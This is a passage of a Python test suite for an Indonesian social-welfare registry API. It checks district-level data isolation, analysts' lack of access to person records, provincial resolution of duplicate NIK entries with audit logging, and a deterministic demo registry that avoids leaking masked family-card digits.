    assert _ids(anon.get(DAFTAR, headers=h, params={"nik": reg.nik["maria"]})) == {reg.maria}
    csv_text = anon.get(DAFTAR, headers=h, params={"format": "csv"}).content.decode("utf-8-sig")
    assert reg.stefanus not in csv_text and reg.nik["stefanus"] not in csv_text
    assert {r["kode_wilayah"] for r in csv.DictReader(io.StringIO(csv_text))} == {"5301"}
    kosong = anon.get(DAFTAR, headers=h, params={"format": "csv", "kode_wilayah": "5302"})
    assert len(_csv(kosong)) == 0
    baris = _xlsx(anon.get(DAFTAR, headers=h, params={"format": "xlsx"}))
    assert {b[6] for b in baris[1:]} == {"5301"} and {b[0] for b in baris[1:]} == milik
    kosong = anon.get(DAFTAR, headers=h, params={"format": "xlsx", "kode_wilayah": "5302"})
    assert len(_xlsx(kosong)) == 1
    # Another district's person, read or changed, answers exactly as an unknown id does:
    # nothing tells that it exists.
    path = f"{DAFTAR}/{reg.stefanus}"
    tidak_ada = f"{DAFTAR}/{'0' * 32}"
    for kirim in (
        lambda p: anon.get(p, headers=h),
        lambda p: anon.patch(p, json={"alamat": "x"}, headers={**h, "If-Match": "*"}),
        lambda p: anon.delete(p, params={"alasan": "uji isolasi"}, headers=h),
    ):
        lain, asing = kirim(path), kirim(tidak_ada)
        assert lain.status_code == asing.status_code == 404
        assert lain.headers["content-type"] == PROBLEM
        assert {k: v for k, v in lain.json().items() if k != "instance"} == {
            k: v for k, v in asing.json().items() if k != "instance"
        }
    assert anon.get(path, headers=masuk_sebagai("operator_provinsi")).status_code == 200
    # Its own people: allowed.
    tag = anon.get(f"{DAFTAR}/{reg.agustina}", headers=h).headers["etag"]
    response = anon.patch(f"{DAFTAR}/{reg.agustina}", json={"alamat": "Oesao"},
                          headers={**h, "If-Match": tag})  # fmt: skip
    assert response.status_code == 200
    # Family cards: only its district's record of a KK number both districts report.
    kartu = anon.get(f"/v1/keluarga/{KK_BENU}", headers=h).json()
    assert [k["kode_wilayah"] for k in kartu["keluarga"]] == ["5301"]
    h_5302 = masuk_sebagai("operator_kabkota", "5302")
    kartu = anon.get(f"/v1/keluarga/{KK_BENU}", headers=h_5302).json()
    assert [a["orang_id"] for a in kartu["keluarga"][0]["anggota"]] == [reg.stefanus]
    h_5303 = masuk_sebagai("operator_kabkota", "5303")
    assert anon.get(f"/v1/keluarga/{KK_BENU}", headers=h_5303).status_code == 404
    # Detail of its own person does not leak the other district's family record.
    detail = anon.get(f"{DAFTAR}/{reg.maria}", headers=h).json()
    assert detail["keluarga"]["kode_wilayah"] == "5301"
    # Duplicates are the province's business.
    assert anon.get("/v1/duplikat", headers=h).status_code == 403


# --- analysts --------------------------------------------------------------------------------


def test_analysts_get_aggregates_not_people(
    anon: TestClient, masuk_sebagai: MasukSebagai, reg: Registri
) -> None:
    # Any list of people, however masked, can be counted to undo the statistics' withheld
    # counts, and a lookup answers "exists" for a number the analyst chose: analysts read
    # the statistics only (tests/api/test_statistik.py). Refused alike whether the record
    # exists or not.
    h = masuk_sebagai("analis")
    for url in (DAFTAR, f"{DAFTAR}?format=csv", f"{DAFTAR}?nik={reg.nik['maria']}",
                f"{DAFTAR}?q=Maria", f"{DAFTAR}/{reg.maria}", f"{DAFTAR}/{uuid.uuid4()}",
                f"/v1/keluarga/{KK_BENU}", "/v1/keluarga/5301" + "9" * 12):  # fmt: skip
        response = anon.get(url, headers=h)
        assert response.status_code == 403 and response.headers["content-type"] == PROBLEM, url
    assert anon.get(f"/v1/keluarga/{KK_BENU}", headers=masuk_sebagai("pimpinan")).status_code == 200
    # Nor are changes.
    assert anon.patch(f"{DAFTAR}/{reg.maria}", json={}, headers=h).status_code == 403
    assert anon.delete(f"{DAFTAR}/{reg.maria}", params={"alasan": "uji"},
                       headers=h).status_code == 403  # fmt: skip


# --- duplicates ------------------------------------------------------------------------------


def test_duplicates_are_listed_for_the_province(
    client: TestClient, engine: Engine, reg: Registri
) -> None:
    body = client.get("/v1/duplikat").json()
    (dup,) = body["data"]
    assert dup["nik"] == reg.nik["maria"] and dup["kode_wilayah"] == ["5301", "5302"]
    rekaman = {(r["orang_id"], r["kode_wilayah"], r["perlu_verifikasi"]) for r in dup["rekaman"]}
    assert rekaman == {(reg.maria, "5301", False), (reg.maria_5302, "5302", True)}
    assert client.get("/v1/duplikat", params={"tahun": 2023}).json()["data"] == []
    # A second duplicate, to page through.
    with Session(engine) as s:
        lahir = date(1970, 5, 5)
        copy = _orang(s, "5303", "Stefanus Seran", "L", lahir, 0, nik=reg.nik["stefanus"])
        s.flush()
        _pmks(s, "5303", "penyandang_disabilitas", orang_id=copy.id, perlu_verifikasi=True)
        s.commit()
    first = client.get("/v1/duplikat", params={"limit": 1})
    page1 = first.json()
    assert len(page1["data"]) == 1 and 'rel="next"' in first.headers["link"]
    page2 = client.get("/v1/duplikat", params={"limit": 1, "cursor": page1["next_cursor"]}).json()
    assert [d["nik"] for d in page1["data"] + page2["data"]] == sorted(
        [reg.nik["maria"], reg.nik["stefanus"]]
    )
    assert page2["next_cursor"] is None
    # Once one of the two records is deleted, the NIK is no longer reported twice.
    client.delete(f"{DAFTAR}/{reg.maria_5302}", params={"alasan": "data ganda"})
    assert [d["nik"] for d in client.get("/v1/duplikat").json()["data"]] == [reg.nik["stefanus"]]


def test_the_province_decides_which_duplicate_stands(
    client: TestClient, anon: TestClient, engine: Engine, reg: Registri,
    masuk_sebagai: MasukSebagai,
) -> None:  # fmt: skip
    nik = reg.nik["maria"]
    url = f"/v1/duplikat/{nik}/putuskan"
    with Session(engine) as s:  # the 5302 record also holds a running enrolment
        s.add(Kepesertaan(orang_id=reg.maria_5302, program_kode="aspd", status="diusulkan"))
        s.commit()
    keputusan = {"orang_id": reg.maria, "catatan": "Domisili di Kabupaten Kupang (KK 5301)."}
    # Districts and analysts do not decide; a record of another NIK is not a choice.
    for peran, wilayah in (("operator_kabkota", "5302"), ("analis", None), ("pimpinan", None)):
        h = masuk_sebagai(peran, wilayah)
        assert anon.post(url, json=keputusan, headers=h).status_code == 403
    salah = client.post(url, json={**keputusan, "orang_id": reg.benu})
    assert salah.status_code == 422 and salah.json()["errors"][0]["field"] == "orang_id"
    assert client.post(url, json={**keputusan, "catatan": ""}).status_code == 422

    response = client.post(url, json=keputusan)
    assert response.status_code == 200, response.text
    rekaman = {r["orang_id"]: r for r in response.json()["rekaman"] if r["tahun"] == 2024}
    assert rekaman[reg.maria_5302]["status_verifikasi"] == "ditolak"
    assert not any(r["perlu_verifikasi"] for r in response.json()["rekaman"])
    # Nothing merged or deleted: 5302 still sees its record, rejected, with the reason.
    h_5302 = masuk_sebagai("operator_kabkota", "5302")
    detail = anon.get(f"{DAFTAR}/{reg.maria_5302}", headers=h_5302).json()
    (pmks,) = detail["pmks"]
    assert pmks["status_verifikasi"] == "ditolak" and "wilayah 5301" in pmks["catatan"]
    assert {k["status"] for k in detail["kepesertaan"]} == {"duplikat"}
    # The standing record's enrolment is untouched; the NIK leaves the duplicates list.
    detail_5301 = client.get(f"{DAFTAR}/{reg.maria}").json()
    assert {k["status"] for k in detail_5301["kepesertaan"]} == {"aktif"}
    assert client.get("/v1/duplikat").json()["data"] == []
    # Decided once: a second decision is a conflict; an unduplicated NIK is unknown here.
    assert client.post(url, json=keputusan).status_code == 409
    tunggal = client.post(f"/v1/duplikat/{reg.nik['petrus']}/putuskan", json=keputusan)
    assert tunggal.status_code == 404
    with Session(engine) as s:
        row = s.scalars(select(AuditLog).where(AuditLog.aksi == "putuskan_duplikat")).one()
        baru = {kolom: ubah["baru"] for kolom, ubah in row.perubahan.items()}
        assert row.sumber_daya_id == reg.maria and baru["ditolak"] == [reg.maria_5302]
        assert baru["data_pmks_ditolak"] == 1 and baru["kepesertaan_duplikat"] == 1


def test_duplicates_are_not_for_analysts(anon: TestClient, masuk_sebagai: MasukSebagai) -> None:
    assert anon.get("/v1/duplikat", headers=masuk_sebagai("analis")).status_code == 403
    assert anon.get("/v1/duplikat", headers=masuk_sebagai("pimpinan")).status_code == 200


# --- the demo registry -----------------------------------------------------------------------


def test_demo_registry_is_valid_deterministic_and_loaded_once(engine: Engine) -> None:
    with Session(engine) as s:
        jumlah = registri.muat_registri(s)
        assert jumlah >= 3000
        assert registri.muat_registri(s) == jumlah  # a second load adds nothing
        orang = s.scalars(select(Orang)).all()
        assert len(orang) == jumlah
        assert len({o.kode_wilayah for o in orang}) == 22
        for o in orang:
            assert o.nik is not None and o.tanggal_lahir is not None
            assert periksa_nik(o.nik, o.tanggal_lahir, o.jenis_kelamin) == [], o.id
            assert o.nomor_kk is None or periksa_nomor_kk(o.nomor_kk) == []
            assert o.sumber == registri.SUMBER
        kategori = s.execute(
            select(col(DataPmks.kategori_kode), func.count()).group_by(col(DataPmks.kategori_kode))
        ).all()
        assert len(kategori) == 26
        keluarga = s.scalars(
            select(DataPmks).where(col(DataPmks.kategori_kode) == "fakir_miskin")
        ).all()
        assert keluarga and all(d.keluarga_id and d.orang_id is None for d in keluarga)
        kepala = s.execute(
            select(col(AnggotaKeluarga.keluarga_id), func.count())
            .where(col(AnggotaKeluarga.hubungan) == "kepala_keluarga")
            .group_by(col(AnggotaKeluarga.keluarga_id))
        ).all()
        assert len(kepala) == s.scalar(select(func.count()).select_from(Keluarga))
        assert all(n == 1 for _, n in kepala)
        assert s.scalar(select(func.count()).select_from(Kepesertaan)) > 100
        # A few NIKs reported by a second district: the copy is flagged, the NIK keeps the
        # district it was issued in.
        ganda = s.scalars(select(DataPmks).where(col(DataPmks.perlu_verifikasi).is_(True))).all()
        pindahan = [o for o in orang if o.nik and o.nik[:4] != o.kode_wilayah]
        assert 1 <= len(ganda) == len(pindahan) <= 10
        assert {d.orang_id for d in ganda} == {o.id for o in pindahan}
        # Deterministic: the generator gives the same registry again.
        wilayah = s.scalars(
            select(Wilayah)
            .where(col(Wilayah.jenis).in_(("kabupaten", "kota")))
            .order_by(col(Wilayah.kode))
        ).all()
        sasaran = {k.kode: k.sasaran for k in s.scalars(select(KategoriPmks))}
        program = set(s.scalars(select(col(ProgramBantuan.kode))))
        baris = registri._bangun(wilayah, sasaran, program)
    assert sorted((r["id"], r["nik"], r["nama"]) for r in baris.orang) == sorted(
        (o.id, o.nik, o.nama) for o in orang
    )


def test_demo_registry_through_the_api(
    anon: TestClient, masuk_sebagai: MasukSebagai, engine: Engine
) -> None:
    with Session(engine) as s:
        jumlah = registri.muat_registri(s)
    h = masuk_sebagai("operator_provinsi")
    rows = _csv(anon.get(DAFTAR, headers=h, params={"format": "csv"}))
    assert len({r["id"] for r in rows}) == jumlah
    ids: list[str] = []
    cursor = None
    while True:
        params: dict[str, Any] = {"limit": 500, "kode_wilayah": "5371"}
        if cursor:
            params["cursor"] = cursor
        body = anon.get(DAFTAR, headers=h, params=params).json()
        ids += [p["id"] for p in body["data"]]
        cursor = body["next_cursor"]
        if not cursor:
            break
    assert ids == sorted({r["id"] for r in rows if r["kode_wilayah"] == "5371"})
    assert anon.get("/v1/duplikat", headers=h).json()["data"]


def test_demo_memberships_do_not_spell_out_the_family_card_number(engine: Engine) -> None:
    # A membership's start date was the card's issue date, which the KK number spells out
    # (digits 7-12, ddmmyy): the date gave away the digits masked to 5301********0001.
    from dinsos_api.penerima.models import AnggotaKeluarga, Keluarga

    with Session(engine) as s:
        registri.muat_registri(s)
        pasangan = s.execute(
            select(col(Keluarga.nomor_kk), col(AnggotaKeluarga.mulai)).join(
                AnggotaKeluarga, col(AnggotaKeluarga.keluarga_id) == col(Keluarga.id)
            )
        ).all()
    assert len(pasangan) > 1000
    sama = [kk for kk, mulai in pasangan if mulai and kk[6:12] == f"{mulai:%d%m%y}"]
    assert len(sama) < len(pasangan) / 100
